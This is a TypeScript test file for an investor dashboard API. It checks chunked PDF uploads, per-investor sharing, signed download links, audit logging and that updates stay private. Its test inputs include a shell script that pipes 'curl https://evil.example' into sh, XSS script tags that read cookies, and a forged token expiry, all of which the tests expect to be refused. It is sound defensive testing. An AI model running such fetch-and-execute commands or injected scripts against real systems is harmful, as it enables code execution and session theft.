import type { APIContext } from 'astro';
import { beforeAll, describe, expect, it } from 'vitest';
import auditLog from '../../netlify/functions/admin-audit-log';
import documentDownload from '../../netlify/functions/document-download';
import documentUploads from '../../netlify/functions/admin-document-uploads';
import documents from '../../netlify/functions/documents';
import insights from '../../netlify/functions/insights';
import investorUpdates from '../../netlify/functions/investor-updates';
import { siteKnowledge } from '../../src/features/chat/knowledge';
import { documentLink, DOCUMENT_LINK_SECONDS } from '../../src/features/investors/documents';
import { rssResponse, sitemapResponse } from '../../src/http/feed-routes';
import { DOCUMENT_PART_BYTES, MAX_DOCUMENT_BYTES } from '../../src/features/investors/document-schema';
import { getUser, saveUser } from '../../src/features/accounts/users-store';
import type { User } from '../../src/features/accounts/schema';
import { call, callJson } from '../helpers/functions';
import { asAdmin, signIn, SITE, useAdminBench } from '../helpers/admin';
import { testDatabase } from '../helpers/db-setup';

/**
 * The investor dashboard's API (docs/roles.md, "Investor dashboard"): updates (a content kind only signed-in
 * accounts read), documents (PDFs in parts, checked by their bytes, shared with all or chosen investors, downloaded
 * through short-lived links made for one account) and the audit log of downloads and sign-ins.
 */
const bench = useAdminBench();
const alice = { username: 'alice-investor', password: 'alice investor password' };
const bob = { username: 'bob-investor', password: 'bob investor password' };
const cookies = { alice: '', bob: '' };
let aliceUser: User;
let bobUser: User;

beforeAll(async () => {
  await saveUser({ ...alice, role: 'investor' });
  await saveUser({ ...bob, role: 'investor' });
  aliceUser = (await getUser(alice.username))!;
  bobUser = (await getUser(bob.username))!;
  cookies.alice = await signIn(alice.username, alice.password, '10.90.0.1');
  cookies.bob = await signIn(bob.username, bob.password, '10.90.0.2');
});

/** A small but real PDF: header, one empty page, cross-reference table, trailer, end marker; `padding` bytes more. */
function pdf(padding = 0): Uint8Array {
  const head =
    '%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\n';
  const pad = padding > 0 ? `%${'x'.repeat(padding)}\n` : '';
  const tail = 'xref\n0 3\ntrailer <</Size 3 /Root 1 0 R>>\nstartxref\n0\n%%EOF\n';
  return new TextEncoder().encode(head + pad + tail);
}

interface UploadStart {
  uploadId: string;
  partSize: number;
  parts: number;
  message?: string;
}

function startUpload(fileName: string, size: number, cookie = bench.cookie()) {
  return callJson<UploadStart>(
    documentUploads,
    '/api/document-uploads',
    asAdmin(cookie, { method: 'POST', body: { fileName, size } }),
  );
}

function sendPart(uploadId: string, part: number, bytes: Uint8Array) {
  return callJson<{ message?: string }>(
    documentUploads,
    `/api/document-uploads/${uploadId}/${part}`,
    asAdmin(bench.cookie(), {
      method: 'PUT',
      rawBody: new Uint8Array(bytes),
      headers: { 'content-type': 'application/octet-stream' },
      params: { id: uploadId, part: String(part) },
    }),
  );
}

interface DocumentAnswer {
  id: string;
  fileName: string;
  size: number;
  version: number;
  sharing?: { allInvestors: boolean; investorIds: string[] };
  message?: string;
  field?: string;
}

const sharedWith = (...users: User[]) => ({ allInvestors: false, investorIds: users.map((user) => user.id) });

/** The dashboard's three steps: announce, send the parts, make the document. */
async function upload(
  bytes: Uint8Array,
  sharing: { allInvestors: boolean; investorIds: string[] } = { allInvestors: true, investorIds: [] },
  fileName = 'Q3 report.pdf',
) {
  const started = await startUpload(fileName, bytes.byteLength);
  expect(started.status, JSON.stringify(started.body)).toBe(201);
  const { uploadId, partSize, parts } = started.body;
  for (let part = 0; part < parts; part += 1) {
    const sent = await sendPart(uploadId, part, bytes.subarray(part * partSize, (part + 1) * partSize));
    expect(sent.status, JSON.stringify(sent.body)).toBe(200);
  }
  const created = await callJson<DocumentAnswer>(
    documents,
    '/api/documents',
    asAdmin(bench.cookie(), {
      method: 'POST',
      body: {
        uploadId,
        title: { en: 'Quarterly report Q3', es: 'Informe trimestral T3' },
        description: { en: 'Third quarter', es: 'Tercer trimestre' },
        category: 'quarterly-report',
        sharing,
      },
    }),
  );
  return { ...created, uploadId };
}

const listFor = (cookie: string) => callJson<DocumentAnswer[]>(documents, '/api/documents', { headers: { cookie } });

function linkFor(cookie: string, id: string) {
  return callJson<{ url: string; expiresAt: string; message?: string }>(documents, `/api/documents/${id}/link`, {
    method: 'POST',
    headers: { cookie, origin: SITE },
    params: { id },
  });
}

const download = (cookie: string, url: string) => call(documentDownload, url, { headers: { cookie } });

async function auditEvents() {
  return (
    await callJson<Array<{ actor: string; actorRole: string; action: string; target: string }>>(
      auditLog,
      '/api/audit-log',
      asAdmin(bench.cookie()),
    )
  ).body;
}

describe('investor documents', () => {
  it('stores a PDF sent in parts and gives it back whole to an investor it is shared with, as a private attachment', async () => {
    const bytes = pdf(2 * DOCUMENT_PART_BYTES + 1234);
    const created = await upload(bytes, sharedWith(aliceUser));
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    expect(created.body).toMatchObject({ fileName: 'Q3 report.pdf', size: bytes.byteLength });
    // Its checked bytes cannot be replaced afterwards.
    expect((await sendPart(created.uploadId, 0, bytes.subarray(0, DOCUMENT_PART_BYTES))).status).toBe(404);

    const listed = await listFor(cookies.alice);
    expect(listed.status).toBe(200);
    expect(listed.body.map((document) => document.id)).toEqual([created.body.id]);
    // An investor is never told who else a document is shared with.
    expect(listed.body[0]).not.toHaveProperty('sharing');

    const link = await linkFor(cookies.alice, created.body.id);
    expect(link.status).toBe(200);
    expect(link.body.url).toMatch(/^\/api\/document-download\?token=[\w-]+\.[\w-]+\.[\w-]+$/);
    expect(Date.parse(link.body.expiresAt) - Date.now()).toBeLessThanOrEqual(DOCUMENT_LINK_SECONDS * 1000);

    const response = await download(cookies.alice, link.body.url);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/pdf');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="Q3 report.pdf"');
    expect(response.headers.get('cache-control')).toBe('private, no-store');
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(Buffer.from(await response.arrayBuffer()).equals(Buffer.from(bytes))).toBe(true);

    const events = await auditEvents();
    expect(events).toContainEqual(
      expect.objectContaining({
        action: 'document.download',
        actor: alice.username,
        actorRole: 'investor',
        target: created.body.id,
      }),
    );
    expect(events).toContainEqual(
      expect.objectContaining({ action: 'sign-in', actor: alice.username, actorRole: 'investor' }),
    );
    const csv = await call(auditLog, '/api/audit-log?format=csv', asAdmin(bench.cookie()));
    expect(await csv.text()).toMatch(
      new RegExp(`"${alice.username}","investor","document.download","${created.body.id}"`),
    );
  });

  it("refuses another investor's document exactly as an unknown one, and a link made for someone else", async () => {
    const created = await upload(pdf(), sharedWith(aliceUser));
    expect(created.status).toBe(201);
    expect((await listFor(cookies.bob)).body.map((document) => document.id)).not.toContain(created.body.id);

    const refused = await linkFor(cookies.bob, created.body.id);
    const unknown = await linkFor(cookies.bob, '01hzzzzzzzzzzzzzzzzzzzzzzz');
    expect(refused).toMatchObject({ status: 404, body: { message: 'Document not found' } });
    expect(refused.body).toEqual(unknown.body);

    // Alice's link in Bob's browser: refused, and nothing is downloaded or logged for Bob.
    const aliceLink = await linkFor(cookies.alice, created.body.id);
    const stolen = await download(cookies.bob, aliceLink.body.url);
    expect(stolen.status).toBe(403);
    expect(await stolen.json()).toEqual({
      message: 'This download link is not valid. Download the document again from the dashboard.',
    });
    // Without a session the link is nothing either.
    expect((await download('', aliceLink.body.url)).status).toBe(401);
    expect((await auditEvents()).filter((e) => e.action === 'document.download' && e.actor === bob.username)).toEqual(
      [],
    );

    // Sharing changed to Bob only: Alice's list loses it and her earlier link stops working.
    const changed = await callJson<DocumentAnswer>(
      documents,
      `/api/documents/${created.body.id}`,
      asAdmin(bench.cookie(), {
        method: 'PUT',
        params: { id: created.body.id },
        body: {
          title: { en: 'Notice', es: 'Aviso' },
          category: 'notice',
          sharing: sharedWith(bobUser),
          version: created.body.version,
        },
      }),
    );
    expect(changed.status, JSON.stringify(changed.body)).toBe(200);
    expect((await listFor(cookies.alice)).body.map((d) => d.id)).not.toContain(created.body.id);
    expect((await listFor(cookies.bob)).body.map((d) => d.id)).toContain(created.body.id);
    expect((await download(cookies.alice, aliceLink.body.url)).status).toBe(404);
  });

  it('refuses an expired or altered link (the clock is set back, no waiting)', async () => {
    const created = await upload(pdf(), sharedWith(aliceUser));
    const past = Date.now() - (DOCUMENT_LINK_SECONDS + 1) * 1000;
    const expired = await documentLink(aliceUser, created.body.id, { now: past });
    const answer = await download(cookies.alice, expired.url);
    expect(answer.status).toBe(403);
    expect(await answer.json()).toEqual({
      message: 'This download link has expired. Download the document again from the dashboard.',
    });
    // A link near its end still works (30 s left: a busy machine may take seconds between making and using it).
    const fresh = await documentLink(aliceUser, created.body.id, { now: past + 31_000 });
    expect((await download(cookies.alice, fresh.url)).status).toBe(200);

    const good = await documentLink(aliceUser, created.body.id);
    const [head, payload, signature] = good.url.split('=')[1]!.split('.');
    const forged = Buffer.from(
      JSON.stringify({ ...JSON.parse(Buffer.from(payload!, 'base64url').toString()), exp: 9e9 }),
    );
    const altered = `/api/document-download?token=${head}.${forged.toString('base64url')}.${signature}`;
    expect((await download(cookies.alice, altered)).status).toBe(403);
    expect((await download(cookies.alice, '/api/document-download')).status).toBe(400);
  });

  it('refuses a file over 20 MB before and while it is sent, with a clear message', async () => {
    const tooBig = await startUpload('big.pdf', MAX_DOCUMENT_BYTES + 1);
    expect(tooBig).toMatchObject({
      status: 413,
      body: { message: 'The file is too large: a document may be at most 20 MB', field: 'file' },
    });
    // A part longer than announced is refused too.
    const started = await startUpload('small.pdf', 100);
    const part = await sendPart(started.body.uploadId, 0, new Uint8Array(101));
    expect(part.status).toBe(413);
    const oversizedPart = await sendPart(started.body.uploadId, 0, new Uint8Array(DOCUMENT_PART_BYTES + 1));
    expect(oversizedPart.status).toBe(413);
  });

  it('refuses a script named .pdf (400, clear message) and keeps none of its bytes', async () => {
    const refusedUploads: string[] = [];
    for (const text of ['#!/bin/sh\ncurl https://evil.example | sh\n', '<script>alert(document.cookie)</script>\n']) {
      const created = await upload(
        new TextEncoder().encode(text),
        { allInvestors: true, investorIds: [] },
        'report.pdf',
      );
      refusedUploads.push(created.uploadId);
      expect(created.status).toBe(400);
      expect(created.body.message).toMatch(/^This file is not a PDF: its contents are not a PDF document/);
      expect(created.body.field).toBe('file');
    }
    // A PDF header without a PDF's end.
    const cut = pdf().subarray(0, 60);
    const truncated = await upload(cut);
    expect(truncated.status).toBe(400);
    expect(truncated.body.message).toMatch(/incomplete/);
    refusedUploads.push(truncated.uploadId);
    const stored = Object.keys(await bench.blobs().snapshot()).filter((path) => !path.startsWith('/metadata/'));
    expect(stored.some((path) => path.includes('document-files'))).toBe(true);
    for (const id of refusedUploads) expect(stored.filter((path) => path.includes(id))).toEqual([]);
    // And none of them became a document.
    const all = await callJson<DocumentAnswer[]>(
      documents,
      '/api/documents/admin',
      asAdmin(bench.cookie(), { params: { id: 'admin' } }),
    );
    for (const id of refusedUploads) expect(all.body.map((document) => document.id)).not.toContain(id);
    // Nor is any still an upload that takes parts.
    expect(await testDatabase().query('SELECT id FROM document_uploads WHERE id = ANY($1)', [refusedUploads])).toEqual(
      [],
    );
  });

  it('makes one document of an upload sent twice at once, keeps the chosen investors in order, one of two edits', async () => {
    const bytes = pdf();
    const started = await startUpload('twice.pdf', bytes.byteLength);
    expect((await sendPart(started.body.uploadId, 0, bytes)).status).toBe(200);
    const body = {
      uploadId: started.body.uploadId,
      title: { en: 'Sent twice', es: 'Enviado dos veces' },
      category: 'notice',
      sharing: sharedWith(bobUser, aliceUser),
    };
    const answers = await Promise.all(
      [1, 2].map(() => callJson<DocumentAnswer>(documents, '/api/documents', asAdmin(bench.cookie(), { body }))),
    );
    const statuses = answers.map((answer) => answer.status).sort();
    expect(statuses[0]).toBe(201);
    expect([404, 409]).toContain(statuses[1]);
    const created = answers.find((answer) => answer.status === 201)!.body;
    expect(created.sharing).toEqual({ allInvestors: false, investorIds: [bobUser.id, aliceUser.id] });
    const all = await callJson<DocumentAnswer[]>(
      documents,
      '/api/documents/admin',
      asAdmin(bench.cookie(), { params: { id: 'admin' } }),
    );
    expect(all.body.filter((document) => document.id === created.id)).toHaveLength(1);
    expect(all.body.find((document) => document.id === created.id)?.sharing?.investorIds).toEqual([
      bobUser.id,
      aliceUser.id,
    ]);

    const edits = await Promise.all(
      [aliceUser, bobUser].map((user) =>
        callJson<DocumentAnswer>(
          documents,
          `/api/documents/${created.id}`,
          asAdmin(bench.cookie(), {
            method: 'PUT',
            params: { id: created.id },
            body: { title: { en: user.username, es: user.username }, sharing: sharedWith(user), version: 1 },
          }),
        ),
      ),
    );
    expect(edits.map((answer) => answer.status).sort()).toEqual([200, 409]);
    const won = edits.find((answer) => answer.status === 200)!.body;
    const shares = await testDatabase().query<{ investor_id: string }>(
      'SELECT investor_id FROM document_shares WHERE document_id = $1',
      [created.id],
    );
    expect(shares.map((share) => share.investor_id)).toEqual(won.sharing?.investorIds);
    expect(won.version).toBe(2);

    // Deleted: its sharing list goes with it.
    const removed = await callJson(
      documents,
      `/api/documents/${created.id}`,
      asAdmin(bench.cookie(), { method: 'DELETE', params: { id: created.id } }),
    );
    expect(removed.status).toBe(200);
    expect(await testDatabase().query('SELECT * FROM document_shares WHERE document_id = $1', [created.id])).toEqual(
      [],
    );
  });

  it('refuses sharing with an account that is not an investor', async () => {
    const admin = (await getUser('partner'))!;
    const created = await upload(pdf(), sharedWith(admin));
    expect(created).toMatchObject({ status: 400, body: { field: 'sharing.investorIds' } });
  });
});

describe('investor updates', () => {
  const marker = 'zanzibarquokka';
  let published: { id: string };
  let draft: { id: string };

  function createUpdate(body: object) {
    return callJson<{ id: string; content: { en: string }; message?: string }>(
      investorUpdates,
      '/api/investor-updates',
      asAdmin(bench.cookie(), { method: 'POST', body }),
    );
  }

  const update = (title: string, date: string, isPublished: boolean) => ({
    title: { en: `${title} ${marker}`, es: `${title} ${marker} (es)` },
    description: { en: `Summary ${marker}`, es: `Resumen ${marker}` },
    content: { en: `<p>Body ${marker}</p><script>alert(1)</script>`, es: `<p>Cuerpo ${marker}</p>` },
    createdAt: date,
    published: isPublished,
  });

  beforeAll(async () => {
    const older = await createUpdate(update('Older', '2026-01-15', true));
    const created = await createUpdate(update('Newer', '2026-06-30', true));
    const hidden = await createUpdate(update('Draft', '2026-09-01', false));
    expect([older.status, created.status, hidden.status], JSON.stringify(older.body)).toEqual([201, 201, 201]);
    published = created.body;
    draft = hidden.body;
    expect(created.body.content.en).toBe(`<p>Body ${marker}</p>`);
  });

  it('shows signed-in accounts the published updates, newest first, never cached; drafts to admins only', async () => {
    const read = await callJson<Array<{ id: string; title: { en: string } }>>(
      investorUpdates,
      '/api/investor-updates',
      {
        headers: { cookie: cookies.alice },
      },
    );
    expect(read.status).toBe(200);
    expect(read.body.map((u) => u.title.en)).toEqual([`Newer ${marker}`, `Older ${marker}`]);
    expect(read.headers.get('cache-control')).toBe('no-store');
    expect(read.headers.get('netlify-cdn-cache-control')).toBeNull();
    const one = await callJson(investorUpdates, `/api/investor-updates/${published.id}`, {
      headers: { cookie: cookies.bob },
      params: { id: published.id },
    });
    expect(one.status).toBe(200);
    const hidden = await callJson(investorUpdates, `/api/investor-updates/${draft.id}`, {
      headers: { cookie: cookies.alice },
      params: { id: draft.id },
    });
    expect(hidden).toMatchObject({ status: 404, body: { message: 'Update not found' } });

    expect((await call(investorUpdates, '/api/investor-updates')).status).toBe(401);
    expect(
      (
        await call(investorUpdates, '/api/investor-updates/admin', {
          headers: { cookie: cookies.alice },
          params: { id: 'admin' },
        })
      ).status,
    ).toBe(403);
    const all = await callJson<Array<{ id: string }>>(
      investorUpdates,
      '/api/investor-updates/admin',
      asAdmin(bench.cookie(), { params: { id: 'admin' } }),
    );
    expect(all.body.map((u) => u.id)).toContain(draft.id);
  });

  it('never reaches the public site: public API, sitemap, feeds, chat knowledge', async () => {
    const context = {
      site: new URL('https://www.example.com'),
      url: new URL('https://www.example.com/'),
    } as unknown as APIContext;
    const texts = [
      await (await sitemapResponse(context)).text(),
      await (await rssResponse(context, 'en')).text(),
      await (await rssResponse(context, 'es')).text(),
      await (await call(insights, '/api/insights')).text(),
    ];
    for (const lang of ['en', 'es'] as const) {
      const knowledge = await siteKnowledge(lang);
      texts.push(JSON.stringify([...knowledge.pages.values(), ...[...knowledge.passagesOf.values()].flat()]));
    }
    expect(texts[0]).toContain('<urlset');
    for (const text of texts) {
      expect(text).not.toContain(marker);
      expect(text).not.toContain(published.id);
    }
  });
});
